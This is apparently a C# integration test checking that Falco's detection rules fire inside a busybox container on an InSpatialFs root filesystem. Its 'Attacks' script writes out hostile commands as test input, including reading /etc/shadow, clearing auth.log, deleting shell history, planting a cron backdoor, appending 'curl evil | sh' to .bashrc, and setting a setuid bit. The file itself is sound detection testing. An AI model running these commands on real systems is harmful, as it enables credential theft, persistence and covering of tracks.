using System.Diagnostics;
using System.Text.Json;
using InSpatialFs.IntegrationTests.Containers;
using InSpatialFs.TestKit.Containers;
using InSpatialFs.TestKit.Processes;

namespace InSpatialFs.IntegrationTests.Falco;

/// <summary>
/// Falco's own rule files, unmodified and alone (`rules: {builtins: false}`, Falco's -r), guard a busybox container
/// under runc on an InSpatialFs root. A benign workload fires none of Falco's rules; each attack Falco's file rules
/// describe fires the corresponding Falco rule, and its alert (the file output) carries Falco's output text and
/// output fields, process context included (proc.cmdline, proc.pname, user.name from the container's passwd).
/// busybox runs some applets (ln, rm, chmod) in a forked shell without an exec, naming the child after the applet:
/// their /proc/PID/cmdline is still the shell's, and so is their proc.cmdline (as /proc says, not as typed).
/// </summary>
[TestFixture]
[NonParallelizable]
[Category("Mount")]
public sealed class FalcoRulesInContainerTests
{
    private static readonly string FalcoDir = Path.Combine(DaemonProcess.RepoRoot, "tests", "InSpatialFs.Security.Tests", "Rules", "Falco");
    private readonly string _cgroup = "/inspatialfs-falco-e2e-" + Guid.NewGuid().ToString("N")[..8];
    private readonly string _alerts = Path.Combine("/var/tmp", "inspatialfs-falco-alerts-" + Guid.NewGuid().ToString("N")[..8]);
    private ContainerRootfs? _rootfs;

    private string AlertFile => Path.Combine(_alerts, "alerts.jsonl");

    [OneTimeSetUp]
    public void StartInstance()
    {
        string? why = RuncBundle.WhyCannotRun();
        if (why != null)
        {
            Assert.Ignore(why);
        }

        Directory.CreateDirectory(_alerts);
        string files = string.Join(", ", new[] { "falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml" }.Select(f => Path.Combine(FalcoDir, f)));
        _rootfs = ContainerRootfs.Start($$"""
            container: { cgroup: {{_cgroup}} }
            rules: { builtins: false, files: [{{files}}] }
            outputs: { file: { path: {{AlertFile}} } }
            """);
        Shell.Check($"""
            set -e
            cd '{_rootfs.Image}'
            mkdir -p work var/log etc/cron.d
            echo 'Nov 27 sshd: accepted' > var/log/auth.log
            echo 'cat /etc/shadow' > root/.ash_history
            """);
    }

    [OneTimeTearDown]
    public void StopInstance()
    {
        _rootfs?.Dispose();
        Shell.Run($"rm -rf '{_alerts}'; for c in /sys/fs/cgroup{_cgroup} /sys/fs/cgroup/*{_cgroup}; do rmdir \"$c\" 2>/dev/null; done; true");
    }

    private const string Benign = """
        set -e
        mkdir -p /work/app/logs
        echo hello > /work/app/a.txt
        cat /work/app/a.txt /etc/passwd /etc/group /etc/hostname > /dev/null
        mv /work/app/a.txt /work/app/b.txt
        ln -s b.txt /work/app/c
        cp /work/app/b.txt /tmp/copy && cat /tmp/copy > /dev/null
        echo line >> /work/app/logs/app.log
        chmod 640 /work/app/b.txt
        ls -l / /usr/bin > /dev/null
        find /work > /dev/null
        grep root /etc/passwd > /dev/null
        rm -r /work/app /tmp/copy
        echo benign-done
        """;

    private const string Attacks = """
        cat /etc/shadow > /dev/null
        ln -s /etc/shadow /tmp/shadow-link
        ln /etc/shadow /work/shadow-hard
        echo evil >> /etc/issue
        : > /var/log/auth.log
        rm /root/.ash_history
        echo '* * * * * root /tmp/payload' > /etc/cron.d/backdoor
        echo 'curl evil | sh' | tee -a /root/.bashrc > /dev/null
        echo evil > /bin/evil
        cp /bin/busybox /work/suid; chmod u+s /work/suid 2>/dev/null || true
        echo attack-done
        """;

    /// <summary>Falco rule → the start of its output text (Falco's own wording) and an output field it must carry.</summary>
    private static readonly Dictionary<string, (string Output, string Field, string Value)> Expected = new()
    {
        ["Read sensitive file untrusted"] = ("Sensitive file opened for reading by non-trusted program | file=/etc/shadow", "proc.cmdline", "cat /etc/shadow"),
        ["Create Symlink Over Sensitive Files"] = ("Symlinks created over sensitive files | target=/etc/shadow linkpath=/tmp/shadow-link", "evt.arg.target", "/etc/shadow"),
        ["Create Hardlink Over Sensitive Files"] = ("Hardlinks created over sensitive files | target=/etc/shadow linkpath=/work/shadow-hard", "evt.arg.oldpath", "/etc/shadow"),
        ["Write below etc"] = ("File below /etc opened for writing | file=/etc/issue", "fd.name", "/etc/issue"),
        ["Clear Log Activities"] = ("Log files were tampered | file=/var/log/auth.log", "fd.name", "/var/log/auth.log"),
        ["Delete or rename shell history"] = ("Shell history deleted or renamed | file=/root/.ash_history", "evt.type", "unlinkat"),
        ["Schedule Cron Jobs"] = ("Cron jobs were scheduled to run | file=/etc/cron.d/backdoor", "fd.name", "/etc/cron.d/backdoor"),
        ["Modify Shell Configuration File"] = ("A shell configuration file has been modified | file=/root/.bashrc", "proc.pname", "sh"),
        ["Write below binary dir"] = ("File below a known binary directory opened for writing | file=/bin/evil", "user.name", "root"),
        ["Set Setuid or Setgid bit"] = ("Setuid or setgid bit is set via chmod | fd=<NA> filename=/work/suid mode=", "evt.arg.filename", "/work/suid"),
    };

    [Test]
    [Order(1)]
    public void Benign_workload_fires_no_Falco_rule()
    {
        ShellResult run = RunInContainer(Benign);
        Assert.That(run.StdOut, Does.Contain("benign-done"), run + "\n--- daemon ---\n" + _rootfs!.Daemon.Output);
        WaitForAnalysis();
        Assert.That(Incidents().Select(i => i.Source + ": " + i.Output), Is.Empty);
    }

    [Test]
    [Order(2)]
    public void Attacks_fire_the_corresponding_Falco_rules_with_Falco_s_output_and_fields()
    {
        ShellResult run = RunInContainer(Attacks);
        Assert.That(run.StdOut, Does.Contain("attack-done"), run + "\n--- daemon ---\n" + _rootfs!.Daemon.Output);
        var deadline = Stopwatch.StartNew();
        List<JsonElement> alerts = [];
        while (deadline.Elapsed < TimeSpan.FromSeconds(30))
        {
            alerts = Alerts();
            if (Expected.Keys.All(rule => alerts.Any(a => a.GetProperty("rule").GetString() == rule)))
            {
                break;
            }

            Thread.Sleep(100);
        }

        WaitForAnalysis();
        alerts = Alerts();
        string all = string.Join("\n", alerts.Select(a => a.GetProperty("rule").GetString() + ": " + a.GetProperty("output").GetString()));
        TestContext.Out.WriteLine(all);
        foreach ((string rule, (string output, string field, string value)) in Expected)
        {
            JsonElement? alert = alerts.Cast<JsonElement?>().FirstOrDefault(a => a!.Value.GetProperty("rule").GetString() == rule
                && a.Value.GetProperty("output").GetString()!.Contains(output, StringComparison.Ordinal));
            Assert.That(alert, Is.Not.Null, $"no alert for '{rule}' with '{output}'; alerts:\n{all}");
            JsonElement a = alert!.Value;
            string text = a.GetProperty("output").GetString()!;
            // Falco's JSON: "HH:MM:SS.nnnnnnnnn: Priority text", priority, source, tags, hostname, output_fields.
            Assert.That(text, Does.Match(@"^\d\d:\d\d:\d\d\.\d{9}: " + a.GetProperty("priority").GetString() + " "), rule);
            Assert.That(text, Does.Contain("command=" + a.GetProperty("output_fields").GetProperty("proc.cmdline").GetString()), rule);
            Assert.That(a.GetProperty("source").GetString(), Is.EqualTo("syscall"));
            Assert.That(a.GetProperty("tags").GetArrayLength(), Is.GreaterThan(0), rule);
            Assert.That(a.GetProperty("hostname").GetString(), Is.EqualTo(Environment.MachineName));
            Assert.That(a.GetProperty("output_fields").GetProperty(field).ToString(), Does.StartWith(value), $"{rule}: {field}");
            Assert.That(a.GetProperty("incident").GetProperty("container").GetString(), Is.Not.Empty, rule);
        }

        JsonElement shadow = alerts.First(a => a.GetProperty("rule").GetString() == "Read sensitive file untrusted");
        JsonElement fields = shadow.GetProperty("output_fields");
        Assert.That((fields.GetProperty("fd.name").GetString(), fields.GetProperty("proc.name").GetString(), fields.GetProperty("user.name").GetString(),
            fields.GetProperty("proc.pname").GetString(), fields.GetProperty("evt.type").GetString(), fields.GetProperty("proc.exepath").GetString()),
            Is.EqualTo(("/etc/shadow", "cat", "root", "sh", "openat", "/bin/busybox")));
        Assert.That(fields.GetProperty("user.uid").GetInt64(), Is.Zero);
        Assert.That(shadow.GetProperty("priority").GetString(), Is.EqualTo("Warning"));
    }

    private ShellResult RunInContainer(string script) => ContainerScripts.Run(_rootfs!, _cgroup, script);

    private void WaitForAnalysis()
    {
        ContainerScripts.WaitForAnalysis(_rootfs!.ControlDirectory);
        Thread.Sleep(200); // the file channel writes from its own pump
    }

    private sealed record IncidentLine(string Source, string Output);

    private List<IncidentLine> Incidents() =>
        [.. File.ReadAllLines(Path.Combine(_rootfs!.ControlDirectory, "incidents")).Where(l => l.Length > 0).Select(l =>
        {
            using JsonDocument doc = JsonDocument.Parse(l);
            return new IncidentLine(doc.RootElement.GetProperty("source").GetString()!, doc.RootElement.GetProperty("output").GetString()!);
        })];

    private List<JsonElement> Alerts() => !File.Exists(AlertFile) ? [] :
        [.. File.ReadAllLines(AlertFile).Where(l => l.Length > 0).Select(l => JsonDocument.Parse(l).RootElement.Clone())];
}
